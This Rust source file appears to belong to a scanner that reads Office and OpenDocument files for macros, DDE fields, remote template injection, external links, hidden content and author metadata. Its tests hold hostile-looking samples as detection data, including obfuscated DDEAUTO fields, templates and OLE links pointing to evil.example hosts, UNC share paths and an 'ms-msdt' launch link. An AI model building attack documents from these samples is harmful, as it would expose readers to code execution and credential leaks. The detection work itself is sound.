//! What documents of offices do when they are opened, and what they say beside their pages.
//!
//! A part is read for what it says, not for how it is called or written: any prefix, quotes, encoding and reference that
//! an office program understands. What could not be read for sure is told as such, never passed over.

mod compound;
mod open;
mod package;

use super::hidden::Hidden;
use super::zip::{Archive, Part};
use super::{Action, Seen, picture};
use crate::attachment::xml::{self, Attribute, Piece};
pub use compound::compound;
use encoding_rs::{UTF_8, UTF_16BE, UTF_16LE};
pub use open::open_document;
pub use package::package;
use std::borrow::Cow;

/// One part is read up to so many bytes, and all of them together.
const MOST_OF_A_PART: usize = 16 * 1024 * 1024;
const MOST_OF_ALL: usize = 64 * 1024 * 1024;

/// The parts of an archive, read one by one, and what was seen in them.
struct Parts<'b> {
    archive: Archive<'b>,
    budget: usize,
    seen: Seen,
}

impl<'b> Parts<'b> {
    fn new(archive: Archive<'b>) -> Self {
        let mut parts = Self { archive, budget: MOST_OF_ALL, seen: Seen::default() };
        parts.act(Action::Concealed, parts.archive.is_odd());
        parts
    }

    /// A part, as far as the budget goes.
    fn part(&mut self, name: &str) -> Vec<u8> {
        let most = self.budget.min(MOST_OF_A_PART);
        let (bytes, is_whole) = match self.archive.inflated(name, most) {
            Part::None => (Vec::new(), true),
            Part::Whole(bytes) => (bytes, true),
            Part::Cut(bytes) => (bytes, false),
            Part::Damaged(bytes) => {
                self.act(Action::Concealed, true);
                (bytes, true)
            }
        };
        self.budget -= bytes.len();
        self.hide(Hidden::Unseen, !is_whole);
        bytes
    }

    /// A part of XML as its elements and texts. Empty where it is none.
    fn elements(&mut self, name: &str, mut each: impl FnMut(&mut Self, Event<'_>)) {
        let bytes = self.part(name);
        if !begins_as_xml(&bytes) {
            return;
        }
        let is_cut = bytes.len() == MOST_OF_A_PART || self.budget == 0;
        let Some(text) = decoded(&bytes, is_cut) else { return self.act(Action::Concealed, true) };
        for (piece, _) in xml::Reader::new(&text) {
            match piece {
                Piece::Open { name, attributes, is_closed } => {
                    let element = Element { name: local(name), attributes };
                    // A program resolves these; who wrote it that way did not want it read.
                    let is_known = element.attributes.iter().all(|it| xml::resolved(it.value).is_some());
                    self.act(Action::Concealed, !is_known);
                    each(self, Event::Open(&element));
                    if is_closed {
                        each(self, Event::Close);
                    }
                }
                Piece::Close { .. } => each(self, Event::Close),
                Piece::Text(text) => match xml::resolved(text) {
                    Some(text) => each(self, Event::Text(&text)),
                    None => self.act(Action::Concealed, !is_cut),
                },
                Piece::Data(text) => each(self, Event::Text(text)),
                Piece::Declaration(words) => self.act(Action::Concealed, !is_unicode(words)),
                // Definitions change what the rest says, and no office program writes any.
                Piece::Doctype { .. } => self.act(Action::Concealed, true),
                Piece::Broken => self.act(Action::Concealed, !is_cut),
                Piece::Comment | Piece::Instruction => {}
            }
        }
    }

    /// A photo in the document, which is kept there as it is.
    fn photo(&mut self, name: &str) {
        let most = self.budget.min(picture::HEAD);
        let start = self.archive.inflated(name, most).bytes();
        self.budget -= start.len();
        self.seen.hidden.extend(picture::told_inside(&start));
    }

    fn hide(&mut self, hidden: Hidden, is_there: bool) {
        if is_there {
            self.seen.hidden.insert(hidden);
        }
    }

    fn act(&mut self, action: Action, is_there: bool) {
        if is_there {
            self.seen.actions.insert(action);
        }
    }
}

/// What a part says, in its order.
enum Event<'t> {
    Open(&'t Element<'t>),
    Close,
    Text(&'t str),
}

struct Element<'t> {
    /// Without its prefix.
    name: &'t str,
    attributes: Vec<Attribute<'t>>,
}

impl Element<'_> {
    /// The value of an attribute of this name, whatever its prefix; empty where there is none.
    fn value(&self, name: &str) -> Cow<'_, str> {
        let found = self.attributes.iter().find(|it| local(it.name) == name);
        found.and_then(|it| xml::resolved(it.value)).unwrap_or_default()
    }

    fn has(&self, name: &str, values: &[&str]) -> bool {
        values.contains(&&*self.value(name))
    }
}

fn local(name: &str) -> &str {
    name.rsplit(':').next().unwrap_or(name)
}

/// Whether this begins as XML does, in any encoding that programs read.
fn begins_as_xml(bytes: &[u8]) -> bool {
    let start = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes).trim_ascii_start();
    matches!(start, [b'<', ..] | [0xFF, 0xFE, ..] | [0xFE, 0xFF, ..] | [0, b'<', ..])
}

/// The text of a part; `None` where it is in no encoding that office programs write.
fn decoded(bytes: &[u8], is_cut: bool) -> Option<Cow<'_, str>> {
    let encoding = match bytes {
        [0xFF, 0xFE, ..] | [b'<', 0, ..] => UTF_16LE,
        [0xFE, 0xFF, ..] | [0, b'<', ..] => UTF_16BE,
        _ => UTF_8,
    };
    let (text, is_faulty) = encoding.decode_with_bom_removal(bytes);
    (is_cut || !is_faulty).then_some(text)
}

/// Whether a declaration names an encoding that the bytes show themselves, or none.
fn is_unicode(declaration: &str) -> bool {
    let Some((_, named)) = declaration.split_once("encoding") else { return true };
    let named = named.trim_start_matches(['=', ' ', '\t', '\r', '\n', '"', '\'']).to_ascii_lowercase();
    ["utf-8", "utf8", "utf-16", "us-ascii"].iter().any(|known| named.starts_with(known))
}

/// Where a document reaches, outside itself.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Reach {
    /// Not farther than this document, or a page that a reader may follow.
    Near,
    /// A place on somebody's computer.
    Computer,
    /// A server, which learns who opens the document and may answer with anything.
    Server,
    /// A program that is started.
    Program,
}

fn reach(target: &str) -> Reach {
    let target = target.trim().to_ascii_lowercase().replace('\\', "/");
    if target.starts_with("//") || target.starts_with("file://") && !target.starts_with("file:///") {
        return Reach::Server;
    }
    if let Some(path) = target.strip_prefix("file:") {
        // `file:////server/share`
        return if path.starts_with("////") { Reach::Server } else { Reach::Computer };
    }
    match target.split_once(':') {
        Some((drive, _)) if drive.len() == 1 => Reach::Computer,
        Some(("http" | "https" | "ftp", _)) => Reach::Server,
        Some(("mailto" | "tel" | "urn" | "callto" | "sip" | "pack" | "news" | "cid" | "data", _)) => Reach::Near,
        Some((scheme, _)) if scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+-.".contains(&byte)) => {
            Reach::Program
        }
        _ => Reach::Near,
    }
}

/// Whether the text of a field asks another program, or takes in another file.
fn asks(field: &str) -> bool {
    let upper = field.to_uppercase();
    let mut words = upper.split(|c: char| c.is_whitespace() || matches!(c, '"' | '{' | '}'));
    let mut words = words.by_ref().filter(|word| !word.is_empty()).peekable();
    while let Some(word) = words.next() {
        // Letters by their numbers are how such a field hides.
        let is_spelled =
            word == "QUOTE" && words.peek().is_some_and(|next| next.bytes().all(|byte| byte.is_ascii_digit()));
        if matches!(word, "DDE" | "DDEAUTO" | "INCLUDETEXT") || is_spelled {
            return true;
        }
    }
    false
}
#[cfg(test)]
mod tests {
    use super::*;
    use crate::attachment::tests::{archive, exif, open_document as odf};
    use std::io::{Cursor, Write};

    #[track_caller]
    fn check(part: (&str, &str), actions: &[Action], hidden: &[Hidden]) {
        let bytes = archive(&[("[Content_Types].xml", b"<Types/>"), (part.0, part.1.as_bytes())]);
        let seen = package(&bytes);
        assert!(seen.actions.iter().eq(actions) && seen.hidden.iter().eq(hidden), "{part:?}: {seen:?}");
    }

    #[test]
    fn what_an_office_file_does_and_says_is_seen() {
        check(
            ("word/document.xml", "<w:document><w:t>vanish DDE &lt;w:ins </w:t><w:webHidden/></w:document>"),
            &[],
            &[],
        );
        check(("word/vbaProject.bin", "x"), &[Action::Macro], &[]);
        check(("word/document.xml", "<w:instrText> DDEAUTO c:\\x </w:instrText>"), &[Action::Link], &[]);
        let template = |target: &str| {
            format!("<Relationship Type=\"a/attachedTemplate\" TargetMode=\"External\" Target=\"{target}\"/>")
        };
        check(("word/_rels/settings.xml.rels", &template("https://evil.example/x.dotm")), &[Action::Template], &[]);
        check(("word/_rels/settings.xml.rels", &template("file:///C:\\Users\\suzuki\\x.dotx")), &[], &[Hidden::Paths]);
        check(("docProps/core.xml", "<dc:creator></dc:creator><cp:lastModifiedBy/>"), &[], &[]);
        check(
            ("docProps/core.xml", "<dc:creator/><cp:lastModifiedBy>鈴木</cp:lastModifiedBy>"),
            &[],
            &[Hidden::Author],
        );
        check(
            ("docProps/custom.xml", "<Properties><property name=\"決裁\"/></Properties>"),
            &[],
            &[Hidden::Properties],
        );
        check(("word/comments.xml", "<w:comments/>"), &[], &[]);
        check(("word/comments.xml", "<w:comments><w:comment w:id=\"0\"/></w:comments>"), &[], &[Hidden::Comments]);
        check(("word/document.xml", "<w:del w:author=\"鈴木\"/>"), &[], &[Hidden::Edits]);
        check(("word/document.xml", "<w:rPr><w:vanish/></w:rPr>"), &[], &[Hidden::HiddenParts]);
        check(("xl/workbook.xml", "<sheet state=\"veryHidden\"/>"), &[], &[Hidden::HiddenParts]);
        check(
            ("xl/worksheets/sheet1.xml", "<worksheet><cols><col min=\"1\" hidden=\"1\"/></cols></worksheet>"),
            &[],
            &[Hidden::HiddenParts],
        );
        check(("ppt/slides/slide2.xml", "<p:sld show=\"0\"/>"), &[], &[Hidden::HiddenParts]);
        check(("ppt/notesSlides/notesSlide1.xml", "x"), &[], &[Hidden::Comments]);
        check(("xl/externalLinks/externalLink1.xml", "x"), &[], &[Hidden::Paths]);
        check(("ppt/embeddings/x.xlsx", "x"), &[], &[Hidden::Embedded]);
        let locked = archive(&[(
            "[Content_Types].xml",
            b"<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
        )]);
        assert!(package(&locked).actions.contains(&Action::Macro));
    }

    #[test]
    fn what_an_open_document_does_and_says_is_seen() {
        let seen = |part: (&str, &str)| open_document(&odf("text", &[(part.0, part.1.as_bytes())]));
        assert_eq!(seen(("meta.xml", "<dc:creator/>")), Seen::default());
        assert!(seen(("meta.xml", "<dc:creator>鈴木</dc:creator>")).hidden.iter().eq(&[Hidden::Author]));
        assert!(seen(("content.xml", "<office:annotation office:name=\"a\"/>")).hidden.iter().eq(&[Hidden::Comments]));
        assert!(seen(("content.xml", "<text:changed-region text:id=\"a\"/>")).hidden.iter().eq(&[Hidden::Edits]));
        assert!(seen(("Basic/Standard/Module1.xml", "x")).actions.iter().eq(&[Action::Macro]));
        for (text, action) in [
            ("<s:event-listener s:language='ooo:script'/>", Action::Macro),
            ("<a l:href='&#118;nd.sun.star.script:x'/>", Action::Macro),
            ("<a l:href='ms-search:x'/>", Action::Launch),
            ("<t:cell t:formula='of:=DDE(\"a\";\"b\")'/>", Action::Link),
            ("<x:dde-source/>", Action::Link),
            ("<x:section-source l:href='//evil/x.odt'/>", Action::Link),
            ("<!DOCTYPE x><x/>", Action::Concealed),
        ] {
            assert!(seen(("Object 1/content.xml", text)).actions.iter().eq(&[action]), "{text}");
        }
        assert_eq!(seen(("content.xml", "<a l:href='https://example.jp'/><a l:href='../x.pdf'/>")), Seen::default());
    }

    /// An old Office file with these files in it; a folder is a path without bytes.
    fn old(parts: &[(&str, Option<&[u8]>)]) -> Vec<u8> {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        for (path, bytes) in parts {
            match bytes {
                Some(bytes) => file.create_stream(path).unwrap().write_all(bytes).unwrap(),
                None => file.create_storage(path).unwrap(),
            }
        }
        file.flush().unwrap();
        file.into_inner().into_inner()
    }

    #[test]
    fn what_an_old_office_file_does_and_says_is_seen() {
        let actions = |parts: &[(&str, Option<&[u8]>)]| compound(&old(parts)).actions.into_iter().collect::<Vec<_>>();
        let record = |number: u16, bytes: &[u8]| {
            [&number.to_le_bytes()[..], &(bytes.len() as u16).to_le_bytes(), bytes].concat()
        };
        // What a workbook of 40 sheets holds lies in many sectors, in any order.
        let book = |last: &[u8]| [record(0x0085, b"\0\0\0\0\0\0\x01\0A").repeat(400), last.to_vec()].concat();
        assert_eq!(actions(&[("/Workbook", Some(&book(&[])))]), []);
        assert_eq!(compound(&old(&[("/Workbook", Some(&book(&[])))])), Seen::default());
        let macros = record(0x0085, b"\0\0\0\0\x02\x01\x01\0A");
        assert_eq!(actions(&[("/Workbook", Some(&book(&macros)))]), [Action::Macro]);
        assert_eq!(actions(&[("/Book", Some(&record(0x01AE, b"\x01\0\x08\0\0cmd\x03/c x")))]), [Action::Link]);
        for name in ["/_VBA_PROJECT_CUR", "/_vba_project", "/Macros", "/vba"] {
            assert_eq!(actions(&[(name, None)]), [Action::Macro], "{name}");
        }
        let slides =
            |flag: u8| [&[7; 900][..], b"\x02\0\0\x04\x0C\0\0\0\x05\0\0\0", &[flag, 0, 0, 0, 2, 0, 0, 0]].concat();
        assert_eq!(actions(&[("/PowerPoint Document", Some(&slides(0)))]), []);
        assert_eq!(actions(&[("/PowerPoint Document", Some(&slides(1)))]), [Action::Macro]);
        assert_eq!(actions(&[("/WordDocument", Some(b"\x13 PAGE \x14 DDE \x15"))]), []);
        assert_eq!(actions(&[("/WordDocument", Some(b"text \x13D\0D\0E\0A\0U\0T\0O\0 \0x\0\x15"))]), [Action::Link]);
        assert_eq!(compound(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 damaged").actions.len(), 1);
        // Its summary: one value at place 16 of the list, the author.
        let mut summary = [[0; 44].as_slice(), &48_u32.to_le_bytes()].concat();
        [0_u32, 1, 4, 16, 30, 8].iter().for_each(|number| summary.extend(number.to_le_bytes()));
        summary.extend(b"\x97\xE9\x96\xD8\0\0\0\0");
        let seen = compound(&old(&[("/\u{5}SummaryInformation", Some(&summary))]));
        assert!(seen.hidden.iter().eq(&[Hidden::Author]), "{seen:?}");
    }

    #[test]
    fn however_it_is_written_it_is_seen() {
        let field = "<instrText>DDEAUTO c:\\x</instrText>";
        let wide: Vec<u8> = format!("\u{feff}<?xml version='1.0' encoding='UTF-16'?><x>{field}</x>")
            .encode_utf16()
            .flat_map(u16::to_be_bytes)
            .collect();
        let written: [(&[u8], &[Action]); 12] = [
            (&wide, &[Action::Link]),
            (b"<q:instrText xmlns:q='w'>&#x44;DE&#65;UTO x</q:instrText>", &[Action::Link]),
            (b"<w:instrText><![CDATA[ ddeauto x]]></w:instrText>", &[Action::Link]),
            (b"<w:instrText>DD</w:instrText><w:t>text</w:t><w:instrText>EAUTO x</w:instrText>", &[Action::Link]),
            (b"<w:fldSimple w:instr='DDE x'/>", &[Action::Link]),
            (b"<w:instrText> QUOTE 68 68 69 </w:instrText>", &[Action::Link]),
            (
                b"<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DATE \\@ \"y\"</w:instrText><w:t>DDE x</w:t>",
                &[],
            ),
            (b"<!DOCTYPE x [<!ENTITY d 'DDE'>]><w:instrText>&d; x</w:instrText>", &[Action::Concealed]),
            (b"<?xml version='1.0' encoding='UTF-7'?><x/>", &[Action::Concealed]),
            (b"<w:t>\xFF</w:t>", &[Action::Concealed]),
            (b"<w:t", &[Action::Concealed]),
            (b"<x:ddeLink xmlns:x='s'/>", &[Action::Link]),
        ];
        for (text, actions) in written {
            // Any part counts, whatever it is called.
            let seen = package(&archive(&[("[Content_Types].xml", b"<Types/>"), ("any/thing.bin", text)]));
            assert!(seen.actions.iter().eq(actions), "{}: {seen:?}", String::from_utf8_lossy(text));
        }
        let to = |kind: &str, target: &str| {
            let text = format!("<r:Relationship Target='{target}' TargetMode=\"External\" Type='a/{kind}'/>");
            let seen = package(&archive(&[("[Content_Types].xml", b"<Types/>"), ("_rels/a.rels", text.as_bytes())]));
            seen.actions.into_iter().collect::<Vec<_>>()
        };
        assert_eq!(to("hyperlink", "https://example.jp/"), []);
        assert_eq!(to("image", "https://example.jp/a.png"), []);
        assert_eq!(to("externalLinkPath", "file:///C:/a.xlsx"), []);
        assert_eq!(to("oleObject", "mhtml:https://evil.example/!x"), [Action::Link]);
        assert_eq!(to("oleObject", "https://evil.example/x"), [Action::Link]);
        assert_eq!(to("image", "\\\\evil\\share\\a.png"), [Action::Link]);
        assert_eq!(to("image", "file://evil/a.png"), [Action::Link]);
        assert_eq!(to("attachedTemplate", "&#104;ttp://evil.example/x"), [Action::Template]);
        assert_eq!(to("hyperlink", "ms-msdt:/id"), [Action::Launch]);
        assert_eq!(to("aFChunk", "a.html"), [Action::Concealed]);
        assert_eq!(to("control", "a.xml"), [Action::Macro]);
        let types = |named: &str| {
            format!("<Types><Override PartName='/x' ContentType='application/vnd.ms-{named}+xml'/></Types>")
        };
        for named in ["excel.intlmacrosheet", "office.activeX", "word.document.macroEnabled.main"] {
            let seen = package(&archive(&[("[Content_Types].xml", types(named).as_bytes())]));
            assert!(seen.actions.iter().eq(&[Action::Macro]), "{named}: {seen:?}");
        }
    }

    #[test]
    fn an_archive_that_can_be_read_in_two_ways_is_told() {
        let plain = archive(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<x/>")]);
        assert_eq!(package(&plain), Seen::default());
        let twice = archive(&[("[Content_Types].xml", b"<Types/>"), ("a.xml", b"<x/>"), ("A.xml", b"<x/>")]);
        let at = plain.windows(4).position(|window| window == b"word").unwrap();
        let mut other_name = plain.clone();
        other_name[at] = b'W';
        let list = plain.windows(4).rposition(|window| window == b"PK\x01\x02").unwrap();
        let changed = |offset: usize, value: u8| {
            let mut bytes = plain.clone();
            bytes[list + offset] = value;
            bytes
        };
        for odd in [twice, other_name, changed(8, 1), changed(10, 12), changed(46, 0xFF)] {
            assert!(package(&odd).actions.contains(&Action::Concealed));
        }
        // Damage in the middle of what is packed.
        let mut damaged = plain.clone();
        damaged[at + 17] ^= 0x7F;
        assert!(package(&damaged).actions.contains(&Action::Concealed));
    }

    #[test]
    fn a_photo_in_a_document_tells_as_much_as_beside_it() {
        let notes = exif(false, &[], &[], &[(2, b"\x23\0\0\0\x01\0\0\0")]);
        let length = (notes.len() as u16 + 8).to_be_bytes();
        let photo = [b"\xFF\xD8\xFF\xE1".as_slice(), &length, b"Exif\0\0", &notes, b"\xFF\xD9"].concat();
        let seen = package(&archive(&[("[Content_Types].xml", b"<Types/>"), ("word/media/image1.jpeg", &photo)]));
        assert!(seen.hidden.iter().eq(&[Hidden::Place]));
        assert!(open_document(&odf("text", &[("Pictures/1.jpg", &photo)])).hidden.iter().eq(&[Hidden::Place]));
    }

    #[test]
    fn a_file_that_explodes_is_read_no_further_than_its_budget() {
        let bomb = vec![b' '; MOST_OF_A_PART + 1];
        let seen = package(&archive(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", &bomb)]));
        assert!(seen.hidden.iter().eq(&[Hidden::Unseen]));
    }

    proptest::proptest! {
        #[test]
        fn damaged_files_are_read(cut in 0..400_usize, at in 0..400_usize, byte: u8) {
            let mut bytes = archive(&[("[Content_Types].xml", b"<Types/>"), ("docProps/core.xml", b"<dc:creator>x</dc:creator>")]);
            let at = at % bytes.len();
            bytes[at] = byte;
            bytes.truncate(bytes.len().saturating_sub(cut % 3));
            package(&bytes);
            open_document(&bytes);
            compound(&bytes);
        }
    }
}
